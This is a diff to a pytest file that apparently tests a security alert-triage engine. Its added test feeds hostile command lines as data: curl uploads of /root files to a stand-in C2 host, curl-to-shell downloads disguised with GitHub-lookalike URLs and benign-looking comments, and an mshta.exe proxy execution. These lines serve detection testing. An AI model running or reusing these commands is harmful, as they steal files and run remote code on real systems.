@@ -142,6 +142,21 @@ def test_no_excuse_elsewhere_in_the_line_closes_an_attack(line: str, more: str) 
     assert judge(alert(line + more)).band != "close"
 
 
+@pytest.mark.parametrize(
+    ("signal", "line"),
+    [
+        ("exfiltration.upload", "curl -F f=@/root/a http://c2.test/u # jenkins"),
+        ("exfiltration.upload", "curl -F f=@/root/a http://c2.test/u ; echo jenkins"),
+        ("download.pipe_to_shell", "curl http://c2.test/a | sh # https://github.com/a"),
+        ("download.pipe_to_shell", "curl https://github.com@c2.test/a | sh"),
+        ("download.pipe_to_shell", "curl https://github.com.c2.test/a | sh"),
+        ("proxy.mshta_file", r"C:\Windows\System32\mshta.exe D:\a.hta"),
+    ],
+)
+def test_an_excuse_counts_in_the_command_that_matched(signal: str, line: str) -> None:
+    assert signal in {reason.signal for reason in judge(alert(line)).reasons}
+
+
 FAMILIES: Final = ("credentials", "recovery", "defences", "download", "discovery", "shell")
 
 
